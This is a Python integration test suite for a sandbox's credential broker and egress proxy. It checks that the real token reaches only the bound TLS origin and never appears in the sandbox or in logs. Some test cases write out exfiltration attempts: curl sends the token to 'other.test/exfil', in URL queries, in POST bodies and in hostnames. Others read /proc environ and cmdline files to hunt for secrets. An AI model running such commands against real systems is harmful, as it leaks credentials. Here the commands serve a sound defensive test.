"""The credential broker end to end, on every backend: real clients (curl, git) in the
sandbox hold a placeholder; the egress proxy puts the real token into TLS requests to
the bound test origin only, refuses (and audits) the placeholder everywhere else, and
the real value is found nowhere the sandbox — or a log — can see.

The origin is the test's own (tests/origin.py: a network namespace of its own, HTTPS
with a test CA), named through config.toml ``[network.hosts]``; it records the headers
each request arrived with.
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import shutil
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import REQUIRE
from tests.integration.test_egress import net, seen, sh  # noqa: F401 -- net: a fixture
from tests.origin import Origin, origin_namespace

REAL = "tok_" + secrets.token_hex(20)  # one value for the module: searched for below
PROFILE = (
    "extends: workspace-net\n"
    "network:\n  allow: [allowed.test, other.test]\n"
    "secrets:\n"
    # A source variable with an unremarkable name: withheld all the same.
    "  TEST_TOKEN:\n    from: env:ORIGIN_VALUE\n    hosts: [allowed.test]\n"
    "    inject: [header, basic-auth]\n"
)
CURL = "curl -s -S -m 10"
SECRET_NAME = "TEST_TOKEN"  # noqa: S105 -- the name of a secret, not a value


@pytest.fixture(scope="module")
def origin(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Origin]:
    """test_egress's origin without its extra address: 169.254.169.254 can be routed into
    one test namespace at a time, and test_egress may run alongside (pytest-xdist)."""
    if os.geteuid() != 0:
        pytest.skip("needs root: the test's origin server is a network namespace")
    if not shutil.which("ip"):
        if REQUIRE:
            pytest.fail("credential broker tests required but: needs iproute2's ip")
        pytest.skip("needs iproute2's ip")
    with origin_namespace(tmp_path_factory.mktemp("origin")) as server:
        yield server


@pytest.fixture(params=["run", "exec"])
def via(request: pytest.FixtureRequest) -> str:
    """Each test as a one-shot run and through a session's exec (the session's keeper
    holds the proxy and the values for all its execs)."""
    return str(request.param)


@pytest.fixture
def broker(net, codex_home: Path):  # noqa: F811 -- net is the egress tests' fixture
    (codex_home / "profiles" / "brokered.yaml").write_text(PROFILE)
    return net


def run(box, script: str, **kw: object):
    return box("brokered", "sh", "-c", script, env={"ORIGIN_VALUE": REAL}, **kw)


def credential_records(codex_home: Path) -> list[dict[str, object]]:
    lines = (codex_home / "audit.log").read_text().splitlines()
    return [r for r in map(json.loads, lines) if r["operation"] == "credential_use"]


def forms(value: str) -> list[str]:
    """The value as bytes would show it: plain, base64 (alone and as a Basic password)
    and URL-encoded."""
    raw = value.encode()
    return [
        value,
        base64.b64encode(raw).decode(),
        base64.b64encode(b"x-access-token:" + raw).decode(),
        urllib.parse.quote(value),
    ]


def test_curl_and_git_get_the_real_token_to_the_bound_origin_only_over_tls(box, broker, codex_home):
    tag = secrets.token_hex(4)  # the origin's log is the module's: paths of this test only
    script = (
        'case "$TEST_TOKEN" in cbx_*) echo placeholder-ok;; esac;'
        f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" '
        f"https://allowed.test/bearer-{tag} >/dev/null;"
        f'{CURL} -u "x-access-token:$TEST_TOKEN" https://allowed.test/basic-{tag} >/dev/null;'
        'basic=$(printf "x-access-token:%s" "$TEST_TOKEN" | base64 -w0);'
        'git -c http.extraHeader="Authorization: Basic $basic" '
        f"ls-remote https://allowed.test/repo-{tag}.git >/dev/null 2>&1; true"
    )
    ran = run(box, script)
    assert ran.stdout.splitlines()[0] == "placeholder-ok", ran.stdout + ran.stderr
    [bearer] = seen(broker, path=f"/bearer-{tag}") or [ran.stderr]
    assert isinstance(bearer, dict), bearer
    assert bearer["tls"] and bearer["headers"]["authorization"] == f"Bearer {REAL}"
    [basic] = seen(broker, path=f"/basic-{tag}")
    assert base64.b64decode(basic["headers"]["authorization"][6:]).decode() == (
        f"x-access-token:{REAL}"
    )
    git = [r for r in broker.requests() if str(r.get("path", "")).startswith(f"/repo-{tag}.git/")]
    assert git, "git never reached the origin: " + ran.stderr
    assert base64.b64decode(git[0]["headers"]["authorization"][6:]).decode().endswith(REAL)
    assert git[0]["headers"]["user-agent"].startswith("git/")
    assert credential_records(codex_home) == []
    if box.via == "run":  # a run's end record counts its uses; a session's, its stop
        records = map(json.loads, (codex_home / "audit.log").read_text().splitlines())
        [ended] = [
            r for r in records if r["operation"] == "command_exec" and r.get("phase") == "ended"
        ]
        uses = {(u["secret"], u["host"]): u["count"] for u in ended["credentials"]}
        assert uses[("TEST_TOKEN", "allowed.test")] == 3  # bearer, basic, git's one request


@pytest.mark.parametrize(
    ("name", "script", "path"),
    [
        (
            "another host",
            f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" https://other.test/exfil',
            "/exfil",
        ),
        (
            "plain http",
            f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" http://allowed.test/plain',
            "/plain",
        ),
        ("url", f'{CURL} "https://allowed.test/query?t=$TEST_TOKEN"', "/query"),
        ("body", f'{CURL} -X POST -d "t=$TEST_TOKEN" https://allowed.test/body', "/body"),
        ("host name", f'{CURL} "https://$TEST_TOKEN.other.test/dns"', "/dns"),
    ],
)
def test_the_placeholder_anywhere_else_is_refused_and_audited(
    box, broker, codex_home, name, script, path
):
    tag = secrets.token_hex(4)
    script = script.replace(path, f"{path}-{tag}")
    ran = run(box, f"{script} -o /dev/null -w '%{{http_code}}'; true")
    assert "403" in ran.stdout + ran.stderr, ran.stdout + ran.stderr
    # Nothing reached the origin with it: no request at all, or (a body) none of its bytes.
    assert all(
        r.get("body_len") == 0 and "authorization" not in r["headers"]
        for r in seen(broker, path=f"{path}-{tag}")
    ), broker.requests()
    [record] = credential_records(codex_home)
    assert record["decision"] == "denied" and record["secret"] == SECRET_NAME
    assert "TEST_TOKEN" in str(record["reason"]) and REAL not in json.dumps(record)


@pytest.mark.parametrize("path", ["reflect", "reflect-chunked"])
def test_an_origin_reflecting_the_token_is_cut_off_before_the_sandbox_reads_it(
    box, broker, codex_home, path
):
    tag = secrets.token_hex(4)
    ran = run(
        box,
        f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" '
        f"https://allowed.test/{path}-{tag}; echo; echo done",
    )
    assert "done" in ran.stdout
    assert not any(f in ran.stdout + ran.stderr for f in forms(REAL)), ran.stdout
    # It did go out (asking for an answer it can check): the answer was stopped.
    [request] = seen(broker, path=f"/{path}-{tag}")
    assert request["headers"]["accept-encoding"] == "identity"
    [record] = credential_records(codex_home)
    assert "response" in str(record["reason"])


def test_the_real_value_is_nowhere_the_sandbox_or_a_log_can_see(
    box, broker, codex_home, workspace, cli
):
    tag = secrets.token_hex(4)
    script = (
        f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" https://allowed.test/seen-{tag} >/tmp/got;'
        "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n';"
        "cat /tmp/got; ls -la /tmp; cp /tmp/got ./copied;"
        'for f in $(find /tmp . -type f 2>/dev/null | head -200); do cat "$f"; done 2>/dev/null;'
        " true"
    )
    ran = run(box, script)
    assert seen(broker, path=f"/seen-{tag}")[0]["headers"]["authorization"] == f"Bearer {REAL}"
    assert "TEST_TOKEN=cbx_" in ran.stdout, ran.stderr
    printed = cli(
        "run",
        "--backend",
        box.backend,
        "--profile",
        "brokered",
        "--print-spec",
        "--json",
        "--",
        "true",
        env={"ORIGIN_VALUE": REAL},
    )
    debug = cli(
        "--debug",
        "run",
        "--backend",
        box.backend,
        "--profile",
        "brokered",
        "--",
        "curl",
        "-s",
        "-m",
        "10",
        "-H",
        "Authorization: Bearer $TEST_TOKEN",
        "https://allowed.test/debug",
        env={"ORIGIN_VALUE": REAL},
    )
    places = {
        "sandbox": ran.stdout + ran.stderr,
        "workspace": "".join(
            p.read_text(errors="replace") for p in workspace.rglob("*") if p.is_file()
        ),
        "audit log": (codex_home / "audit.log").read_text(),
        "--print-spec": printed.stdout + printed.stderr,
        "--debug": debug.stdout + debug.stderr,
    }
    for where, text in places.items():
        for form in forms(REAL):
            assert form not in text, f"the real value ({form[:8]}…) is in {where}"


def test_a_source_file_is_masked_in_the_sandbox(box, net, codex_home, workspace):  # noqa: F811
    # In the workspace, which every backend shows the sandbox (a HOME under /tmp would
    # be hidden by the private /tmp anyway, proving nothing); the neighbour is the control.
    (workspace / ".origin-token").write_text(REAL + "\n")
    (workspace / ".origin-neighbour").write_text("neighbour-readable\n")
    (codex_home / "profiles" / "from-file.yaml").write_text(
        PROFILE.replace("from: env:ORIGIN_VALUE", f"from: file:{workspace}/.origin-token")
    )
    tag = secrets.token_hex(4)
    ran = box(
        "from-file",
        "sh",
        "-c",
        f'cat .origin-neighbour .origin-token; {CURL} -H "Authorization: Bearer $TEST_TOKEN" '
        f"https://allowed.test/file-{tag} >/dev/null; true",
    )
    assert "neighbour-readable" in ran.stdout, ran.stdout + ran.stderr
    assert REAL not in ran.stdout + ran.stderr
    [request] = seen(net, path=f"/file-{tag}")
    assert request["headers"]["authorization"] == f"Bearer {REAL}"


def test_a_missing_source_names_the_secret_and_launches_nothing(box, broker, codex_home):
    tag = secrets.token_hex(4)
    ran = sh(box, "brokered", f"{CURL} https://allowed.test/never-{tag}")
    assert ran.returncode == 125, ran.stderr
    assert "secret TEST_TOKEN (from env:ORIGIN_VALUE): ORIGIN_VALUE is not set" in (ran.stderr)
    assert len(ran.stderr.strip().splitlines()) == 1
    assert not seen(broker, path=f"/never-{tag}")
